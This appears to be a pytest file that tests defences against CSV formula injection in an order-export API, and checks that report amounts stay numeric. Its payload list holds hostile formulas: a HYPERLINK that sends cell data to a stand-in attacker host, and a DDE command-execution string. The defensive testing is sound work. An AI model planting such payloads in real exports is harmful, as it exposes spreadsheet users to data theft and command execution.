"""CSV injection: text a customer or operator typed is exported as text (a leading apostrophe) when a
spreadsheet would run it as a formula; amounts and counts the server formats stay numbers."""
import csv
import io
import re

import pytest

NUMBER = re.compile(r"-?\d+(\.\d+)?")
FORMULAS = ['=HYPERLINK("http://attacker.example/?leak="&A1,"Click")', "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
            "+31 6 1234 5678"]


def rows(response):
    assert response.status_code == 200, response.text
    assert response.headers["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.text)))


@pytest.mark.parametrize("name", FORMULAS)
def test_a_formula_in_the_buyer_name_is_exported_as_text(client, claim, name):
    order = claim(role="support")
    r = client("support").patch(f"/api/v1/orders/{order['number']}/contact",
                                {"expected_version": order["version"], "first_name": name, "last_name": "Smith"})
    assert r.status_code == 200, r.text
    [row] = rows(client("finance").get("/api/v1/orders.csv", params={"q": order["number"]}))
    assert row["number"] == order["number"]
    assert row["contact_name"].startswith("'") and row["contact_name"][1:].startswith(name)
    assert NUMBER.fullmatch(row["total"]) and NUMBER.fullmatch(row["tickets"])


def test_report_amounts_and_counts_stay_numbers(client):
    revenue = rows(client("finance").get("/api/v1/reports/revenue.csv",
                                         params={"from": "2025-12-01", "to": "2027-11-30", "group_by": "event"}))
    assert revenue and revenue[-1]["key"] == "total"
    for row in revenue:
        for column in ("gross", "refunds", "net", "fees", "tickets_sold", "tickets_refunded"):
            assert NUMBER.fullmatch(row[column]), (column, row[column])
    ledger = rows(client("finance").get("/api/v1/reports/reconciliation.csv",
                                        params={"from": "2026-01-01", "to": "2026-12-31"}))
    assert ledger
    for row in ledger:
        assert NUMBER.fullmatch(row["amount"]) and NUMBER.fullmatch(row["id"]), row
